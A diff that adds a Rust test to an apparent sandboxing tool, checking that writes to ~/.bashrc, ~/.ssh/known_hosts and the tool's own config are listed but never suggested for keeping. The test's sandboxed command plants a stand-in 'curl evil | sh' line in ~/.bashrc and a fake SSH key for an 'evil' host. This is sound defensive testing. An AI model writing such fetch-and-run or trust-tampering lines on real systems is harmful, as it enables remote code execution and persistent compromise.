@@ -484,6 +484,34 @@ fn nothing_around_the_workspace_is_suggested() {
     assert!(err.contains(r#"copy-back = ["~/.cache-me"]"#), "{err}");
 }
 
+/// What the command wrote where it would run or be trusted outside (a shell start-up file,
+/// `~/.ssh`, kennel's own config) is listed, never suggested for keeping.
+#[test]
+fn nothing_that_runs_outside_is_suggested() {
+    let fx = Fixture::new("listing-trusted");
+    if !sandbox_available(&fx) {
+        return;
+    }
+    let out = kennel_run(
+        &fx,
+        &[],
+        "echo 'curl evil | sh' > ~/.bashrc && mkdir -p ~/.ssh ~/.config/kennel && \
+         echo 'evil ssh-ed25519 AAAA' > ~/.ssh/known_hosts && \
+         echo '[defaults]' > ~/.config/kennel/config.toml",
+    );
+    let err = stderr(&out);
+    assert!(out.status.success(), "{err}");
+    assert!(
+        err.contains("~/.bashrc") && err.contains("~/.ssh/known_hosts"),
+        "{err}"
+    );
+    assert!(err.contains("3 of them are where your shell"), "{err}");
+    assert!(
+        !err.contains("read-write = ") && !err.contains("copy-back = "),
+        "{err}"
+    );
+}
+
 /// The listing's budgets never hide files silently, and a folder the command made
 /// unreadable is listed and removed.
 #[test]
